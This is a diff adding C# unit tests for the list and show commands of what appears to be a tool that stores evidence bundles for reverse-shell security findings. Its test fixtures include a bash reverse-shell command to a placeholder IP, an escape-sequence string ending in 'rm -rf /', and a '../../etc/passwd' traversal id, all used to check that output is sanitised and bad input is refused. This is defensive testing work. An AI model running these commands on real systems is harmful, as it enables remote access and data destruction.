@@ -1,0 +1,130 @@
+using System.Text.Json;
+using ReverseShellFunction.Cli;
+using ReverseShellFunction.Store;
+using ReverseShellFunction.Tests.Support;
+
+namespace ReverseShellFunction.Tests.Cli;
+
+/// <summary>list and show: read the index only, newest first, filtered, and safe to print.</summary>
+public abstract partial class AuditCommandsTest
+{
+    private static readonly SampleEvent s_older = new() { FindingId = "1111aaaa", EventTime = new DateTimeOffset(2026, 11, 20, 8, 0, 0, TimeSpan.Zero), Project = "shop-dev-1", Service = "cart" };
+    private static readonly SampleEvent s_middle = new() { FindingId = "2222bbbb", EventTime = new DateTimeOffset(2026, 11, 25, 12, 30, 0, TimeSpan.Zero), Category = "Reverse Shell Variant" };
+    private static readonly SampleEvent s_newest = new() { FindingId = "3333cccc", EventTime = new DateTimeOffset(2026, 11, 28, 21, 14, 7, 482, TimeSpan.Zero) };
+
+    [Fact]
+    public async Task List_ShowsNewestFirstWithCompactCollectors()
+    {
+        var older = await SeedAsync(s_older);
+        var newest = await SeedAsync(s_newest);
+        var middle = await SeedAsync(s_middle);
+
+        var result = await RunAsync("list");
+
+        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
+        var lines = result.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        Assert.StartsWith("EVENT TIME (UTC)  ", lines[0], StringComparison.Ordinal);
+        Assert.Equal([newest.Value, middle.Value, older.Value], lines.Skip(1).Select(l => l.Split("  ", StringSplitOptions.RemoveEmptyEntries)[^1]));
+        Assert.Contains("2026-11-20 08:00:00.000  shop-dev-1", lines[3], StringComparison.Ordinal);
+        Assert.Contains("  cart  ", lines[3], StringComparison.Ordinal);
+        Assert.Contains("198.51.100.23:4444  /bin/bash  3 ok, 1 failed  ", lines[1], StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData(new[] { "--since", "2026-11-25" }, new[] { "3333cccc", "2222bbbb" })]
+    [InlineData(new[] { "--until", "2026-11-25" }, new[] { "2222bbbb", "1111aaaa" })]
+    [InlineData(new[] { "--since", "2026-11-21T00:00:00Z", "--until", "2026-11-28T21:14:07Z" }, new[] { "2222bbbb" })]
+    [InlineData(new[] { "--project", "shop-dev-1" }, new[] { "1111aaaa" })]
+    [InlineData(new[] { "--project", "602115830917" }, new[] { "3333cccc", "2222bbbb", "1111aaaa" })]
+    [InlineData(new[] { "--service", "CHECKOUT-API" }, new[] { "3333cccc", "2222bbbb" })]
+    [InlineData(new[] { "--category", "reverse shell variant" }, new[] { "2222bbbb" })]
+    [InlineData(new[] { "--since", "36500d" }, new[] { "3333cccc", "2222bbbb", "1111aaaa" })]
+    [InlineData(new[] { "--until", "36500d" }, new string[] { })]
+    public async Task List_Filters(string[] filters, string[] expectedFindingIds)
+    {
+        await SeedAsync(s_older);
+        await SeedAsync(s_middle);
+        await SeedAsync(s_newest);
+
+        var result = await RunAsync(["list", "--json", .. filters]);
+
+        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
+        var findings = JsonLines(result.Output).Select(e => e.GetProperty("summary").GetProperty("finding").GetProperty("name").GetString()!.Split('/')[^1]);
+        Assert.Equal(expectedFindingIds, findings);
+    }
+
+    [Fact]
+    public async Task List_Json_PrintsEachIndexEntryAsStored()
+    {
+        var id = await SeedAsync();
+
+        var result = await RunAsync("list", "--json");
+
+        var line = Assert.Single(JsonLines(result.Output));
+        using var stored = JsonDocument.Parse(await Store.ReadRawAsync(StoreLayout.IndexObject(id), CancellationToken.None));
+        Assert.True(JsonElement.DeepEquals(stored.RootElement, line));
+    }
+
+    [Fact]
+    public async Task Show_PrintsTheSummary()
+    {
+        var id = await SeedAsync();
+
+        var result = await RunAsync("show", id.Value);
+
+        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
+        Assert.Contains($"  Bundle:            {id}", result.Output, StringComparison.Ordinal);
+        Assert.Contains("  Remote:            198.51.100.23:4444", result.Output, StringComparison.Ordinal);
+        Assert.Contains("  Arguments:         bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", result.Output, StringComparison.Ordinal);
+        Assert.Contains("Collectors (3 ok, 1 failed)", result.Output, StringComparison.Ordinal);
+        Assert.Contains("  audit-logs:        failed, 0 items: PermissionDenied: the test says so", result.Output, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Show_Json_PrintsTheIndexEntry()
+    {
+        var id = await SeedAsync();
+
+        var result = await RunAsync("show", id.Value, "--json");
+
+        using var printed = JsonDocument.Parse(result.Output);
+        using var stored = JsonDocument.Parse(await Store.ReadRawAsync(StoreLayout.IndexObject(id), CancellationToken.None));
+        Assert.True(JsonElement.DeepEquals(stored.RootElement, printed.RootElement));
+    }
+
+    [Fact]
+    public async Task ListAndShow_HostileFindingText_ReachesTheTerminalWithoutControlCharacters()
+    {
+        var id = await SeedAsync(new SampleEvent { Args = ["sh", "-c", "\u001b[2J\u001b]0;owned\u0007 rm -rf /\r\n"] });
+
+        var list = await RunAsync("list");
+        var show = await RunAsync("show", id.Value);
+
+        Assert.Contains("?[2J?]0;owned? rm -rf /??", show.Output, StringComparison.Ordinal);
+        Assert.DoesNotContain(show.Output.Concat(list.Output), c => char.IsControl(c) && c is not '\n' and not '\r');
+    }
+
+    [Theory]
+    [InlineData("../../etc/passwd")]
+    [InlineData("")]
+    [InlineData("20261128T211407482Z-abc")]
+    [InlineData("20261128T211407482Z-abc-0123456789abcdef/../x")]
+    [InlineData("\u001b[31m20261128T211407482Z-abc-0123456789abcdef")]
+    public async Task Show_BadId_ExitsTwoWithAClearError(string badId)
+    {
+        var result = await RunAsync("show", badId);
+
+        Assert.Equal(ExitCodes.Usage, result.ExitCode);
+        Assert.Contains("is not a bundle id: expected yyyyMMddTHHmmssfffZ-<finding id>-<16 hex digits>", result.Error, StringComparison.Ordinal);
+        Assert.DoesNotContain('\u001b', result.Error);
+    }
+
+    [Fact]
+    public async Task Show_UnknownId_ExitsOne()
+    {
+        var result = await RunAsync("show", "20261128T211407482Z-abc-0123456789abcdef");
+
+        Assert.Equal(ExitCodes.Problem, result.ExitCode);
+        Assert.Contains("error: no index entry for bundle 20261128T211407482Z-abc-0123456789abcdef", result.Error, StringComparison.Ordinal);
+    }
+}
